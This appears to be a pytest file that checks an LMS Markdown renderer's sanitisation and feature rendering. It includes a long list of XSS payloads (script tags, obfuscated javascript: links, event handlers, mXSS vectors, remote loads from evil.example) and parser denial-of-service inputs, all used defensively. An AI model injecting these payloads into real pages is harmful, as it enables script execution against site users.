"""Markdown rendering: hostile input comes out inert, and lessons come out as written."""
from __future__ import annotations

import ast
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from lms.core.markup import MarkupError, MediaRef, render_markdown

ROOT = Path(__file__).resolve().parent.parent

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "form", "input",
                  "button", "textarea", "select", "style", "link", "meta", "base", "video",
                  "audio", "source", "details", "marquee", "template", "noscript", "xmp",
                  "frame", "frameset", "applet", "body", "html", "head", "title"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster",
             "background", "srcdoc", "srcset", "content", "codebase", "cite", "longdesc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
_IGNORED = re.compile(r"[\x00-\x20\x7f-\xa0\s]+")


class _Collector(HTMLParser):
    """Every start tag with its (unescaped) attributes, and every comment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _parse(output: str) -> _Collector:
    collector = _Collector()
    collector.feed(output)
    collector.close()
    return collector


def _normalised(url: str) -> str:
    return _IGNORED.sub("", html.unescape(url)).lower()


def _problems(output: str) -> list[str]:
    """Everything in `output` that could run script or load remote content."""
    found = []
    parsed = _parse(output)
    if parsed.comments:
        found.append(f"comment {parsed.comments!r}")
    for tag, attrs in parsed.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"event handler {name} on <{tag}>")
            if name == "style":
                found.append(f"style on <{tag}>")
            if name in URL_ATTRS and _normalised(value).startswith(BAD_SCHEMES):
                found.append(f"{name}={value!r} on <{tag}>")
            if tag == "img" and name == "src":
                url = _normalised(value).replace("\\", "/")
                if not url.startswith("/") or url.startswith("//"):
                    found.append(f"remote image {value!r}")
    return found


def _any_image(path: str) -> MediaRef:
    """A resolver that finds every file (and hands the path back unescaped in the URL)."""
    return MediaRef(url="/media/1/" + path, kind="image", mime="image/png")


XSS = [
    ("script", "<script>alert(1)</script>"),
    ("script-upper-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-in-paragraph", "Hello <script>alert(1)</script> world"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-slash-attr", '<script/xss src="//evil.example/x.js"></script>'),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-in-template", "<template><script>alert(1)</script></template>"),
    ("js-link-html", '<a href="javascript:alert(1)">x</a>'),
    ("js-link-md", "[x](javascript:alert(1))"),
    ("js-link-md-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("js-link-md-entity", "[x](&#106;avascript:alert(1))"),
    ("js-link-md-reference", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    ("js-link-md-title-breakout", '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'),
    ("js-link-autolink", "<javascript:alert(1)>"),
    ("js-link-entity-decimal", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("js-link-entity-hex", '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>'),
    ("js-link-entity-no-semicolon", '<a href="&#106&#97vascript:alert(1)">x</a>'),
    ("js-link-entity-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("js-link-entity-tab", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("js-link-raw-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("js-link-leading-space", '<a href="  &#14;  javascript:alert(1)">x</a>'),
    ("js-link-nul", '<a href="java\x00script:alert(1)">x</a>'),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">x</a>'),
    ("data-link-html",
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("data-link-md", "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)"),
    ("data-image-md", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("data-image-html", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("js-image-md", "![x](javascript:alert(1))"),
    ("js-image-html", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("js-image-html-newline-entity", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    ("remote-image-md", "![x](http://evil.example/x.png)"),
    ("remote-image-md-https", "![x](https://evil.example/x.png)"),
    ("remote-image-md-reference", "![x][p]\n\n[p]: //evil.example/x.png"),
    ("remote-image-protocol-relative", "<img src=//evil.example/x.png>"),
    ("remote-image-backslash", '<img src="/\\evil.example/x.png">'),
    ("remote-image-entity-slash", '<img src="/&#47;evil.example/x.png">'),
    ("image-alt-breakout", '![x" onerror="alert(1)](pic.png)'),
    ("image-path-breakout", '![x](pic.png"onerror="alert(1))'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-local", '<img src="/ok.png" onerror="alert(1)">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("heading-onclick", '<h1 id="x" onclick="alert(1)">t</h1>'),
    ("td-style-onclick", '<table><tr><td style="color:red" onclick=alert(1)>x</td></tr></table>'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-local", '<iframe src="/x"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-stylesheet", '<link rel="stylesheet" href="//evil.example/x.css">'),
    ("style-tag", '<style>@import "//evil.example/x.css"; '
                  "body{background:url(javascript:alert(1))}</style>"),
    ("style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("comment-script", "<!-- <script>alert(1)</script> -->"),
    ("comment-breakout", "<!--><script>alert(1)</script>-->"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("markdown-placeholder-forgery", "\x02wzxhzdk:0\x03 <script>alert(1)</script>"),
]


@pytest.mark.parametrize("resolver", [None, _any_image], ids=["no-resolver", "resolver"])
@pytest.mark.parametrize("payload", [p for _, p in XSS], ids=[name for name, _ in XSS])
def test_hostile_markup_comes_out_inert(payload, resolver):
    output = render_markdown(payload, resolver)
    assert _problems(output) == []
    assert "<script" not in output.lower()


def test_the_payload_list_is_long_and_the_checker_can_fail():
    assert len(XSS) >= 35
    assert _problems('<a href=" JaVa&#x09;Script:x">x</a><img src="//e/x.png" onerror="x">')


# ---- what authors write ----------------------------------------------------------------------

MEDIA = {
    "media/x.png": MediaRef("/media/7/x.png", "image", "image/png"),
    "media/a.mp4": MediaRef("/media/7/a.mp4", "video", "video/mp4"),
    "media/c.mp3": MediaRef("/media/7/c.mp3", "audio", "audio/mpeg"),
    "media/b.pdf": MediaRef("/media/7/b.pdf", "pdf", "application/pdf"),
}


def _resolve(path: str) -> MediaRef | None:
    return MEDIA.get(path)


def _tags(output: str, name: str) -> list[dict[str, str | None]]:
    return [dict(attrs) for tag, attrs in _parse(output).tags if tag == name]


def test_tables_align_with_classes_not_styles():
    output = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert "<table>" in output
    assert '<th class="align-left">a</th>' in output
    assert '<td class="align-center">2</td>' in output
    assert '<td class="align-right">3</td>' in output
    assert "style" not in output


def test_fenced_code_is_escaped_and_keeps_its_language():
    output = render_markdown("```python\nprint('<b>')\n```\n")
    assert '<pre><code class="language-python">' in output
    assert "&lt;b&gt;" in output
    assert "<b>" not in output


def test_footnotes():
    output = render_markdown("正文[^1]。\n\n[^1]: 脚注内容\n")
    assert '<a class="footnote-ref" href="#fn:1">1</a>' in output
    assert '<div class="footnote">' in output
    assert '<li id="fn:1">' in output
    assert 'class="footnote-backref" href="#fnref:1"' in output


def test_table_of_contents_ids():
    output = render_markdown("[TOC]\n\n## 学习目标\n\n## Second part\n")
    assert '<div class="toc">' in output
    assert '<h2 id="学习目标">学习目标</h2>' in output
    assert '<h2 id="second-part">' in output
    assert '<a href="#学习目标">' in output


def test_links_absolute_get_rel_relative_do_not():
    output = render_markdown(
        "[a](https://www.example.org/x) [b](/courses/1) [c](#part) [d](mailto:a@example.org)")
    links = {attrs["href"]: attrs for attrs in _tags(output, "a")}
    assert links["https://www.example.org/x"]["rel"] == "noopener noreferrer"
    assert "rel" not in links["/courses/1"]
    assert "rel" not in links["#part"]
    assert links["mailto:a@example.org"]["rel"] == "noopener noreferrer"


def test_relative_image_is_resolved():
    output = render_markdown('![组织结构](media/x.png "示意图")', _resolve)
    assert _tags(output, "img") == [{"alt": "组织结构", "src": "/media/7/x.png", "title": "示意图"}]


def test_images_without_a_resolver_keep_only_site_paths():
    output = render_markdown("![a](/static/a.png) ![b](media/b.png) ![c](https://e.example/c.png)")
    assert [img["src"] for img in _tags(output, "img")] == ["/static/a.png"]


def test_video_directive():
    output = render_markdown("开班讲话：\n@[video](media/a.mp4)\n之后的文字", _resolve)
    assert output.count("<video controls") == 1
    assert '<video controls preload="metadata" src="/media/7/a.mp4">' in output
    assert "<p>开班讲话：</p>" in output
    assert "<p>之后的文字</p>" in output


def test_audio_directive_with_title_is_escaped():
    output = render_markdown('@[audio 第一讲 <b>"录音"</b>](media/c.mp3)', _resolve)
    audio = _tags(output, "audio")
    assert audio == [{"controls": None, "preload": "metadata", "src": "/media/7/c.mp3",
                      "title": '第一讲 <b>"录音"</b>'}]
    assert "<b>" not in output


def test_pdf_directive_is_the_only_iframe():
    output = render_markdown(
        '@[pdf 条例全文](media/b.pdf)\n\n<iframe src="/x"></iframe>\n', _resolve)
    frames = _tags(output, "iframe")
    assert frames == [{"src": "/media/7/b.pdf", "class": "pdf-embed", "title": "条例全文"}]
    assert 'src="/x"' not in output


def test_directives_inside_fenced_code_are_left_alone():
    calls: list[str] = []

    def resolver(path: str) -> MediaRef | None:
        calls.append(path)
        return None

    output = render_markdown("```\n@[video](media/none.mp4)\n![x](media/none.png)\n```\n",
                             resolver)
    assert "@[video](media/none.mp4)" in output
    assert calls == []


def test_missing_image_names_its_line():
    with pytest.raises(MarkupError) as raised:
        render_markdown("# 标题\n\n第一段\n\n见图 ![图](media/missing.png)\n", _resolve)
    assert raised.value.line == 5
    assert raised.value.message == "missing media file: media/missing.png"
    assert str(raised.value) == "line 5: missing media file: media/missing.png"


def test_missing_image_by_reference_names_the_definition_line():
    with pytest.raises(MarkupError) as raised:
        render_markdown("![图][p]\n\n[p]: media/missing.png\n", _resolve)
    assert raised.value.line == 3


def test_missing_directive_media_names_its_line():
    with pytest.raises(MarkupError, match="missing media file: media/none.mp4") as raised:
        render_markdown("a\r\nb\r\n\r\n@[video](media/none.mp4)\r\n", _resolve)
    assert raised.value.line == 4


def test_wrong_kind_names_its_line():
    with pytest.raises(MarkupError, match="not a video") as raised:
        render_markdown("第一行\n\n@[video](media/b.pdf)\n", _resolve)
    assert raised.value.line == 3
    with pytest.raises(MarkupError, match="not a image") as raised:
        render_markdown("![x](media/a.mp4)", _resolve)
    assert raised.value.line == 1


def test_remote_or_malformed_directives_are_errors():
    with pytest.raises(MarkupError, match="remote") as raised:
        render_markdown("x\n\n@[video](https://evil.example/a.mp4)", _resolve)
    assert raised.value.line == 3
    with pytest.raises(MarkupError, match="remote"):
        render_markdown("@[pdf](JavaScript:alert`1`)", _resolve)
    with pytest.raises(MarkupError, match="malformed") as raised:
        render_markdown("x\n@[video](media/a b.mp4)", _resolve)
    assert raised.value.line == 2


def test_resolver_urls_must_be_site_local():
    def remote(path: str) -> MediaRef:
        return MediaRef("https://cdn.example/a.mp4", "video", "video/mp4")

    with pytest.raises(MarkupError, match="not on this site"):
        render_markdown("@[video](media/a.mp4)", remote)


def test_chinese_text_passes_through():
    text = ("## 第一章 总则\n\n为了加强和改进干部教育培训工作，提高干部素质和能力。\n\n"
            "- 坚持党管干部\n- 以人为本")
    output = render_markdown(text)
    assert "为了加强和改进干部教育培训工作，提高干部素质和能力。" in output
    assert '<h2 id="第一章-总则">第一章 总则</h2>' in output
    assert "<li>坚持党管干部</li>" in output


def test_media_ref_is_a_frozen_value_with_a_known_kind():
    ref = MediaRef("/media/1/a.png", "image", "image/png")
    with pytest.raises(AttributeError):
        ref.url = "/elsewhere"  # type: ignore[misc]
    with pytest.raises(ValueError, match="kind"):
        MediaRef("/media/1/a.svg", "svg", "image/svg+xml")


def test_only_the_markup_module_imports_markdown_or_bleach():
    importers = []
    for path in (ROOT / "lms").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = ([alias.name for alias in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if any(name.split(".")[0] in ("markdown", "bleach") for name in names):
                importers.append(path.relative_to(ROOT).as_posix())
    assert set(importers) == {"lms/core/markup.py"}


# ---- the parser's worst cases ----------------------------------------------------------------

def _timed(text: str) -> tuple[float, str | None]:
    import time
    start = time.perf_counter()
    try:
        render_markdown(text)
        problem = None
    except MarkupError as exc:
        problem = exc.message
    return time.perf_counter() - start, problem


@pytest.mark.parametrize("text", ["[" * 20_000, "![" * 10_000, "[a](" * 5_000, "<a " * 7_000],
                         ids=["brackets", "images", "addresses", "tags"])
def test_unclosed_brackets_are_refused_at_once_not_rescanned_for_minutes(text):
    """python-markdown rescans to the paragraph's end from every `[`: 20,000 took half a
    minute, a 50,000-character reading note minutes of a worker."""
    seconds, problem = _timed(text)
    assert problem and "brackets" in problem and seconds < 1


def test_deep_nesting_is_a_markup_error_not_a_recursion_error():
    seconds, problem = _timed("".join("  " * i + "- x\n" for i in range(800)))
    assert problem and "nested" in problem


def test_ordinary_text_full_of_links_still_renders():
    paragraph = " ".join(f"[第{i}条](/courses/c{i}) 见(附件{i})" for i in range(2000))
    seconds, problem = _timed(f"{paragraph}\n\n<b>粗体</b> x < y\n\n[未闭合\n")
    assert problem is None and seconds < 2


@pytest.mark.parametrize(("text", "why"), [
    ("# x\n" * 1001, "headings"),
    ("<div>" * 3001, '"<"'),
    ("|a" * 1001, "cells"),
    ("```\n" * 1001, "code fences"),
    (">" * 51 + " x", "nested"),
])
def test_texts_too_costly_to_read_are_refused_at_once(app, text, why):
    """Headings, raw HTML, code fences, table cells and quotes that python-markdown would
    take seconds over (50 KB of headings took 5.6 s) are refused in one linear pass."""
    import time

    started = time.process_time()
    with app.test_request_context(headers={"Accept-Language": "en"}), \
            pytest.raises(MarkupError, match=why):
        render_markdown(text * 10)
    assert time.process_time() - started < 1


def test_a_long_ordinary_document_still_renders(app):
    """The limits leave room: 300 sections with a heading, a table and a link each."""
    text = "## 第 {n} 节\n\n正文 [链接](https://example.org/{n}) <b>重点</b>\n\n| a | b |\n" \
           "|---|---|\n| 1 | 2 |\n\n"
    with app.test_request_context():
        html_ = render_markdown("".join(text.format(n=n) for n in range(300)))
    assert html_.count("<table") == 300 and html_.count("<h2") == 300
